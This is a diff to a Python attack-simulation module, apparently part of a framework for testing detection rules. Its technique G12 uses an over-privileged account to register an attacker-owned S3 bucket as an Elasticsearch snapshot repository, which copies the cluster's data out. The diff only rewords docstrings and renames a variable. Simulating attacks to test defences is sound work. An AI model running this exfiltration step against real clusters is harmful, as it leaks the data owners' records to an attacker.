@@ -1,4 +1,4 @@
-"""G12: a cluster is told of a place of the attacker's for its snapshots."""
+"""G12: an attacker registers a snapshot repository of their own."""
 
 from contextlib import closing
 
@@ -7,7 +7,7 @@ from backwatch.attack.techniques.search import AbusedSearch
 
 
 class ElasticsearchCopiedOut(AbusedSearch):
-    """In an app whose account may do everything."""
+    """An app whose account may do everything."""
 
     attack = "registers a bucket of the attacker's as a place for snapshots"
     reference = (
@@ -17,12 +17,12 @@ class ElasticsearchCopiedOut(AbusedSearch):
     rule = "search-admin"
 
     def meet(self) -> object:
-        """The attacker registers it."""
+        """Register the repository as the attacker."""
         with closing(self.open_client()) as client:
             place = {"type": "s3", "settings": {"bucket": "backup-of-shop"}}
             return client.snapshot.create_repository(name="nightly", repository=place)["acknowledged"]
 
     @classmethod
     def succeeded(cls, service: HostileServer, got: object) -> bool:
-        """The server says that it is done."""
-        return got is True and any(one.startswith(b"PUT /_snapshot/nightly") for one in service.kept)
+        """Return whether the server reported success."""
+        return got is True and any(request.startswith(b"PUT /_snapshot/nightly") for request in service.kept)
